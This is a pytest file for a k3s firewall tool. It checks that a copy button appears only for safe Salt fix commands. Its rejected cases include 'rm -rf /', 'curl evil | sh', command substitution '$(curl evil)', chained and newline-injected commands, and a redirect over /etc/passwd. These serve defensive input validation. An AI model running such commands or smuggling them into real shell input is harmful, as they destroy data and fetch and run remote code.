"""A button copies only a command that does no more than its words say."""

from __future__ import annotations

import pytest

from k3sfw_engine.checks import suggested_commands as commands
from k3sfw_engine.fleet.page.pasteable import is_pasteable
from k3sfw_engine.model.rows import Node, Role


@pytest.mark.parametrize(
    "fix",
    [
        commands.apply_firewall("a1"),
        commands.apply_firewall("node 1"),
        commands.apply_routes("a1"),
        commands.heal("a1"),
        commands.list_ruleset("a1"),
        commands.restart_k3s(Node("a1", Role.AGENT, ())),
        commands.run_on("a1", "firewall-cmd --list-all", "ip route show"),
        commands.delete_key("a1"),
        "salt -L a1,a2 state.apply k3s.firewall",
        "salt-run k3sfw.tables minion=a1",
    ],
)
def test_what_the_checks_suggest_can_be_copied(fix):
    assert is_pasteable(fix, {"a1"})


@pytest.mark.parametrize(
    "fix",
    [
        "",
        "start the service there",
        "rm -rf /",
        "salt a1",
        "salt a1 state.apply k3s.firewall; curl evil | sh",
        "salt a1 state.apply $(curl evil)",
        "salt a1 state.apply `curl evil`",
        'salt a1 state.apply "$(curl evil)"',
        "salt a1 state.apply k3s.firewall\nrm -rf /",
        "salt a1 state.apply k3s.firewall && rm -rf /",
        "salt a1 state.apply k3s.firewall > /etc/passwd",
        "salt a1 state.apply 'unbalanced",
        "salt a1 state.apply \\\nrm",
        "saltx a1 state.apply",
        "salt a1 /bin/sh",
        "salt -L",
    ],
)
def test_what_a_shell_would_read_otherwise_has_no_button(fix):
    assert not is_pasteable(fix, {"a1"})


def test_a_node_has_no_button_for_a_shell_of_another():
    fix = commands.run_on("s1", "curl evil | sh")
    assert is_pasteable(fix, {"s1"})
    assert not is_pasteable(fix, {"a1"})
    assert not is_pasteable(fix, ())
    assert not is_pasteable("salt -L a1,s1 cmd.run 'curl evil'", {"a1"})
